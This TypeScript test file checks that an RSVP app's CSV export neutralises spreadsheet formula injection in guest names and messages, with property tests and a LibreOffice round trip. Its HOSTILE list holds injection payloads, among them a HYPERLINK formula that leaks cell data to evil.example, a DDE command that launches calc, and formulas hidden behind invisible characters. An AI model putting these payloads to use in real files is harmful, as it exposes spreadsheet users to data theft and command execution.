import { execFile } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { delimiter, join } from 'node:path';
import { promisify } from 'node:util';
import fc from 'fast-check';
import { Types } from 'mongoose';
import { inertCell } from '../../src/common/csv-cell.js';
import { csvFileName, rsvpCsvHead, rsvpCsvRows } from '../../src/modules/rsvp/responses/rsvp-csv.js';
import type { ListedRsvp } from '../../src/modules/rsvp/responses/rsvp-pages.repository.js';
import { readCsv } from './support/csv.js';

const MOMENT = new Date('2026-12-31T15:59:59.999Z');
const rsvp = (from: string, message = '', attendanceCount = 0): ListedRsvp => ({
  _id: new Types.ObjectId(),
  invitationId: new Types.ObjectId(),
  from,
  message,
  attendanceCount,
  willAttend: attendanceCount > 0,
  createdAt: MOMENT,
  rev: 0,
});

/** Names that do something in a spreadsheet, or try to get out of their cell. */
const HOSTILE = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"Klik")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '   =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  // Signs without a width that no white space covers.
  '\u061c=1+1',
  '\u115f=1+1',
  '\u180e=1+1',
  '\u3164=1+1',
  '\u2061=1+1',
  '\u2064=1+1',
  '\ufe00=1+1',
  '\u034f=1+1',
  '\u17b4=1+1',
  '\u180b=1+1',
  '\u1160=1+1',
  '\uffa0=1+1',
  '\u{e0001}=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '+60-12-345 6789',
  '"=1+1',
  'Ali","=1+1',
  'Ali\r\n=1+1',
  'Ali;=1+1',
];
/** Names of real guests, which nothing may change. */
const AS_TYPED = [
  "'Aisyah binti Ahmad",
  '+60123456789',
  '+60 12 345 6789',
  '012-345 6789',
  'Pak Long (ayah) - sekeluarga',
  'Ali & Siti = ❤️',
  'nama@contoh.my',
  '🌸 Kak Ros 🌸',
  '"Mak Su", Kedah',
  'علي بن أحمد',
  '陳美玲',
  '100% hadir',
];

describe('X46 a cell', () => {
  it.each(HOSTILE.filter((text) => !/^("|Ali)/.test(text)))('%j gets an apostrophe', (text) => {
    expect(inertCell(text)).toBe(`'${text}`);
  });

  it('that begins with a NUL gets one as well', () => expect(inertCell('\u0000=1')).toBe("'\u0000=1"));

  it.each(AS_TYPED)('%j stays as typed', (text) => expect(inertCell(text)).toBe(text));

  it.each(['+1', '+1+1', '+60-12-3456789', '+60 12  345 6789', '+(60)123456789', '+1e99999', '+1234567890123456'])(
    '%j is taken for no phone number',
    (text) => expect(inertCell(text)).toBe(`'${text}`),
  );
});

const hostileText = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.string({
    unit: fc.constantFrom('=', '+', '-', '@', '"', ',', ';', '\r', '\n', '\t', '\0', ' ', "'", '＝', 'a', '1'),
  }),
  fc.constantFrom(...HOSTILE, ...AS_TYPED),
);

describe('X46 the file', () => {
  it('begins with the mark of UTF-8 and the names of the columns', () => {
    expect(rsvpCsvHead('english')).toBe('\ufeffname,attending,count,message,time\r\n');
    expect(rsvpCsvHead('malay')).toBe('\ufeffnama,hadir,bilangan,ucapan,masa\r\n');
  });

  it('gives back every RSVP as it was stored, but for the apostrophes (property)', () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(hostileText, hostileText, fc.nat({ max: 1000 })), { maxLength: 20 }), (answers) => {
        const rows = readCsv(
          rsvpCsvRows(
            answers.map(([from, message, count]) => rsvp(from, message, count)),
            'english',
          ),
        );
        expect(rows).toEqual(
          answers.map(([from, message, count]) => [
            inertCell(from),
            count > 0 ? 'yes' : 'no',
            String(count),
            inertCell(message),
            '2026-12-31 23:59:59',
          ]),
        );
      }),
      { numRuns: 500 },
    );
  });

  it('has no cell that begins like a formula, whatever precedes it (property)', () => {
    const formula = /^[\s\u0000-\u001f\u00ad\u061c\u115f\u180e\u200b-\u200f\u2060\u3164\ufeff]*[=+\-@＝＋－＠]/;
    fc.assert(
      fc.property(hostileText, (text) => {
        const cell = inertCell(text);
        expect([text, `'${text}`]).toContain(cell);
        if (cell === text && formula.test(cell)) expect(cell).toMatch(/^\+[\d ]{5,29}$/);
        expect(cell).not.toMatch(/^[\0\t\r\n]/);
      }),
      { numRuns: 2000 },
    );
  });

  it('S-25 is named by the moment in Malaysia', () => {
    expect(csvFileName(MOMENT.getTime())).toBe('guests-20261231-235959.csv');
  });
});

describe('X46 LibreOffice', () => {
  const soffice = (process.env['PATH'] ?? '')
    .split(delimiter)
    .map((folder) => join(folder, 'soffice'))
    .find((file) => existsSync(file));
  const title = 'shows hostile and plain names as texts, none as a formula, and writes them back as they were';

  if (!soffice) {
    it.skip(`${title} (LibreOffice is not installed here: apt-get install libreoffice-calc-nogui)`, () => undefined);
    return;
  }

  it(
    title,
    async () => {
      const folder = mkdtempSync(join(tmpdir(), 'serikad-csv-'));
      try {
        const names = [...HOSTILE, ...AS_TYPED];
        const convert = async (from: string, to: string, read: string[] = []): Promise<string> => {
          const profile = `-env:UserInstallation=file://${join(folder, 'profile')}`;
          const args = [profile, '--headless', ...read, '--convert-to', to, '--outdir', folder, join(folder, from)];
          await promisify(execFile)(soffice, args, { timeout: 100_000 });
          const file = join(folder, `${from.split('.')[0]}.${to.split(':')[0]}`);
          return readFileSync(file, 'utf8');
        };
        // UTF-8, commas, quotes; and formulas are evaluated when there are any, the worst that a person can choose.
        const asCsv = ['--infilter=CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true'];
        const formulas = (sheet: string): number => sheet.match(/table:formula=/g)?.length ?? 0;

        writeFileSync(
          join(folder, 'guests.csv'),
          rsvpCsvHead('english') +
            rsvpCsvRows(
              names.map((name) => rsvp(name, name, 2)),
              'english',
            ),
        );
        expect(formulas(await convert('guests.csv', 'fods', asCsv))).toBe(0);
        const back = await convert('guests.fods', 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false');
        const rows = readCsv(back.replace(/^\ufeff/, '').replace(/\r?\n/g, '\r\n'));
        // A spreadsheet has line ends of one kind and no tabs in a cell;
        // a phone number without spaces is a number to it.
        const shown = (text: string): string =>
          text
            .replace(/\r\n|\r|\n/g, '\r\n')
            .replace('\t', '')
            .replace(/^\+(?=\d+$)/, '');
        expect(rows.map(([name, attending, count, message, time]) => [name, attending, count, message, time])).toEqual([
          ['name', 'attending', 'count', 'message', 'time'],
          ...names.map((name) => [
            shown(inertCell(name)),
            'yes',
            '2',
            shown(inertCell(name)),
            expect.stringMatching(/^2026-12-31 23:59:59$/),
          ]),
        ]);

        // The control: the same names as they are do run.
        const raw = names.map((name) => `"${name.replaceAll('"', '""')}"\r\n`).join('');
        writeFileSync(join(folder, 'control.csv'), `\ufeff${raw}`);
        expect(formulas(await convert('control.csv', 'fods', asCsv))).toBeGreaterThan(2);
      } finally {
        rmSync(folder, { recursive: true, force: true });
      }
    },
    120_000,
  );
});
